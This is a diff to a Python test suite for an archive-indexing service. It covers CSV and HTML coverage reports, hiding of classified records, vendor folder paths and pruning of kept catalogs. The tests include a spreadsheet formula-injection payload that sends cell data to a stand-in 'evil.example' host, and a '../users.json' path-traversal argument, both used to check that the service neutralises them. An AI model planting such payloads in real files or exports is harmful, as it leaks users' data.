@@ -2,7 +2,9 @@
 page scans made by the test with known answers; coverage and ledger as
 JSON, CSV (UTF-8 with BOM, GB18030) and HTML; the HTML looked at in
 headless Chromium (a screenshot and an A4 PDF kept as test artefacts);
-the command-line client's report command."""
+the command-line client's report command; records above the reader's 密级
+counted but not described; formula-like cells guarded in CSV; the catalogs
+kept for the audit and `indexd catalogs`."""
 import csv
 import io
 import json
@@ -24,6 +26,9 @@ ARTEFACTS = os.environ.get("ARTEFACTS", os.path.join(tempfile.gettempdir(), "fpa
 CHROMIUM = "/usr/bin/chromium"
 
 # 页数 and the pages the test stores: (档号, 载体, 页数, stored pages)
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
+HIDDEN_NOTE = "另有 {} 件档案的密级高于您的查阅权限，未列出。"
+
 RECORDS = [
     ("Z099-WS·2017-Y-BGS-0001", "纸质", 3, [1, 2, 3]),    # digitized
     ("Z099-WS·2017-Y-BGS-0002", "纸质", 2, [1]),          # half
@@ -200,6 +205,93 @@ class ReportTest(unittest.TestCase):
         self.assertIn(["得分（满分5分）", "4.60"], rows)
         self.assertIn("页数与扫描页数不符", raw.decode("utf-8-sig"))
 
+    def test_csv_formulas_guarded(self):
+        quoted = FORMULA.replace('"', '""')
+        cat = f'档号,题名,责任者,日期,页数,载体\nZ097-WS·2019-Y-BGS-0001,"{quoted}",县扶贫办,20190101,2,纸质\n'
+        st, body, _ = self.d.request("POST", "/api/v1/catalog", cat, "text/csv")
+        self.assertEqual((st, body["imported"]), (200, 1), body)
+        for enc, codec in (("utf-8", "utf-8-sig"), ("gb18030", "gb18030")):
+            st, raw, _ = self.report("coverage", fonds="Z097", format="csv", encoding=enc)
+            rows = list(csv.reader(io.StringIO(raw.decode(codec))))
+            self.assertIn(["Z097-WS·2019-Y-BGS-0001", "'" + FORMULA, "", "2", "0"], rows)
+        # a purpose of use, in the register's CSV
+        code = RECORDS[0][0]
+        st, body, _ = self.d.request("GET", f"{code_path(code)}/pages/1?purpose=" + urllib.parse.quote(FORMULA))
+        self.assertEqual(st, 200, body)
+        st, raw, _ = self.d.request("GET", "/api/v1/register?format=csv", raw=True)
+        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+        mine = [r for r in rows if r[4] == code and r[8].endswith(FORMULA)]
+        self.assertTrue(mine, rows[-3:])
+        self.assertEqual(mine[-1][8], "'" + FORMULA)
+        self.assertNotIn(FORMULA, [c for r in rows for c in r])
+
+    def test_hidden_records_in_reports(self):
+        """A reader without clearance: counted in every figure, never listed by 档号."""
+        self.d.add_user("gong", "archivist", "gong-pass-12")
+        tok = self.d.make_token("gong")
+        secret, public = "Z096-WS·2019-Y-BGS-0001", "Z096-WS·2019-Y-BGS-0002"
+        cat = ("档号,题名,责任者,日期,页数,载体,存放位置,密级\n"
+               f"{secret},青龙计划,,20190101,2,纸质,9号库-机要柜,机密\n"       # line 2: 责任者 missing
+               f"{public},公开件,县扶贫办,20190101,1,纸质,1号库,\n"
+               f"{public},公开件重复,县扶贫办,20190101,1,纸质,1号库,\n")     # line 4: duplicate
+        st, body, _ = self.d.request("POST", "/api/v1/catalog", cat, "text/csv")
+        self.assertEqual(st, 200, body)
+
+        def as_gong(name, **params):
+            params.setdefault("fonds", "Z096")
+            return self.d.request("GET", f"/api/v1/reports/{name}?" + urllib.parse.urlencode(params),
+                                  raw="format" in params, token=tok)
+        st, mine, _ = as_gong("coverage")
+        st, full, _ = self.report("coverage", fonds="Z096")
+        for key in ("total", "digitized", "rate", "points", "pages", "by_fonds"):
+            self.assertEqual(mine[key], full[key], key)
+        self.assertEqual(mine["total"], 2)
+        self.assertEqual([m["code"] for m in mine["missing"]], [public])
+        self.assertEqual((mine["missing_total"], mine["missing_hidden"]), (1, 1))
+        self.assertEqual((full["missing_total"], full["missing_hidden"]), (2, 0))
+        self.assertTrue(all("classification" not in m for m in full["missing"]))
+        for fmt in ("csv", "html"):
+            st, raw, _ = as_gong("coverage", format=fmt)
+            text = raw.decode("utf-8-sig")
+            self.assertIn(HIDDEN_NOTE.format(1), text)
+            for word in (secret, "青龙", "机要柜", "机密"):
+                self.assertNotIn(word, text)
+            st, raw, _ = self.report("coverage", fonds="Z096", format=fmt)
+            self.assertNotIn("另有", raw.decode("utf-8-sig"))
+        # the catalog audit: every deduction still there, by file and line
+        st, mine, _ = as_gong("catalog")
+        st, full, _ = self.report("catalog", fonds="Z096")
+        for key in ("rows", "complete", "errors", "warnings", "score", "irregular_total"):
+            self.assertEqual(mine[key], full[key], key)
+        self.assertEqual([(x["line"], x["rule"]) for x in mine["irregular"]],
+                         [(x["line"], x["rule"]) for x in full["irregular"]])
+        by_line = {x["line"]: x for x in mine["irregular"]}
+        self.assertEqual((by_line[2]["code"], by_line[2]["reason"], by_line[2]["key"]), ("", "（密级档案，不显示）", "author"))
+        self.assertEqual((by_line[4]["code"], by_line[4]["rule"]), (public, "duplicate"))
+        self.assertEqual({x["line"]: x["code"] for x in full["irregular"]}[2], secret)
+        st, raw, _ = as_gong("catalog", format="csv")
+        self.assertNotIn(secret, raw.decode("utf-8-sig"))
+        env = dict(os.environ, INDEXD_URL=self.d.base, INDEXD_TOKEN=tok)
+        r = subprocess.run([QUERY, "report", "coverage", "--fonds", "Z096"], capture_output=True, text=True, env=env)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertIn("still to digitize: 2\n", r.stdout)
+        self.assertIn("(1 above your clearance, not listed)", r.stdout)
+        self.assertNotIn(secret, r.stdout)
+
+    def test_acceptance_folder_for_vendors(self):
+        account = {"folder": "/srv/交付/2019批/scans/", "scans": {"files": 1, "pages": 1}, "problems": {}}
+        st, body, _ = self.d.request("PUT", "/api/v1/deliveries/folder-test", json.dumps(account), "application/json")
+        self.assertEqual(st, 200, body)
+        self.d.add_user("ven9", "vendor", "ven9-pass-12")
+        tok = self.d.make_token("ven9")
+        st, r, _ = self.d.request("GET", "/api/v1/reports/acceptance?delivery=folder-test", token=tok)
+        self.assertEqual((st, r["folder"]), (200, "scans"))
+        st, r, _ = self.d.request("GET", "/api/v1/reports/acceptance", token=tok)
+        self.assertEqual({d["name"]: d["folder"] for d in r["deliveries"]}["folder-test"], "scans")
+        self.assertNotIn("/srv/", json.dumps(r, ensure_ascii=False))
+        st, r, _ = self.d.request("GET", "/api/v1/reports/acceptance?delivery=folder-test")
+        self.assertEqual(r["folder"], "/srv/交付/2019批/scans/")
+
     def test_timed_test_auto(self):
         env = dict(os.environ, INDEXD_URL=self.d.base)
         r = subprocess.run([QUERY, "timed-test", "--auto", "--codes", "Z099-WS·2017-Y-BGS-0001,Z099-WS·2017-D30-BGS-0003",
@@ -317,6 +409,66 @@ class ReportTest(unittest.TestCase):
         self.assertIn("unknown report 'audit'", r.stderr)
         r = subprocess.run([QUERY, "report", "coverage", "--gb18030"], capture_output=True, text=True, env=env)
         self.assertEqual(r.returncode, 2)
+
+
+class KeptCatalogsTest(unittest.TestCase):
+    """Which imported catalogs the daemon keeps for the audit, and `indexd catalogs`."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.d = Daemon(EXE).start()
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.d.cleanup()
+
+    def catalogs(self):
+        st, r, _ = self.d.request("GET", "/api/v1/reports/catalog")
+        self.assertEqual(st, 200, r)
+        return [c["file"] for c in r["catalogs"]]
+
+    def command(self, *args):
+        return subprocess.run([EXE, "catalogs", *args, "--data-dir", self.d.data_dir], capture_output=True, text=True)
+
+    def test_kept_and_pruned(self):
+        # a file of which nothing could be imported is not kept
+        junk = "档号,题名\n" + "".join(f"bad{i},x\n" for i in range(2000))
+        st, body, _ = self.d.request("POST", "/api/v1/catalog", junk, "text/csv")
+        self.assertEqual((st, body["imported"], body["kept"]), (200, 0, False), body)
+        self.assertEqual(self.catalogs(), [])
+        good = []
+        for i in range(3):
+            cat = f"档号,题名,责任者,日期,页数\nZ094-WS·2019-Y-BGS-000{i + 1},第{i}件,县扶贫办,20190101,1\nbad,x\n"
+            st, body, _ = self.d.request("POST", "/api/v1/catalog", cat, "text/csv")
+            self.assertEqual((st, body["imported"], body["kept"]), (200, 1, True), body)
+            good.append(cat)
+        kept = self.catalogs()
+        self.assertEqual(len(kept), 3)
+        st, r, _ = self.d.request("GET", "/api/v1/reports/catalog")
+        self.assertEqual(r["rows"], 6)
+        # over 64 MiB: refused before anything is written
+        big = "档号,题名,责任者,日期,页数\nZ093-WS·2019-Y-BGS-0001,大,县扶贫办,20190101,1\n" + "x" * (64 << 20)
+        st, body, _ = self.d.request("POST", "/api/v1/catalog", big, "text/csv")
+        self.assertEqual((st, body["error"]["status"]), (413, "too_big"), body)
+        self.assertIn("64 MiB", body["error"]["message"])
+        st, _, _ = self.d.request("GET", code_path("Z093-WS·2019-Y-BGS-0001"))
+        self.assertEqual(st, 404)
+        # indexd catalogs, beside the running daemon
+        r = self.command("list")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual([ln.split()[0] for ln in r.stdout.splitlines() if ln.split()[0].endswith(".csv")], kept)
+        r = self.command("delete", kept[0])
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(self.catalogs(), kept[1:])
+        r = self.command("delete", "../users.json")
+        self.assertEqual(r.returncode, 1)
+        self.assertIn("no kept catalog", r.stderr)
+        r = self.command("prune", "--keep", "1")
+        self.assertEqual((r.returncode, r.stdout.strip()), (0, "deleted 1 catalogs, kept 1"), r.stderr)
+        self.assertEqual(self.catalogs(), kept[2:])
+        st, r, _ = self.d.request("GET", "/api/v1/reports/catalog")
+        self.assertEqual((r["rows"], r["irregular"][0]["line"]), (2, 3))
+        self.assertEqual(self.command("prune").returncode, 2)
 
 
 if __name__ == "__main__":
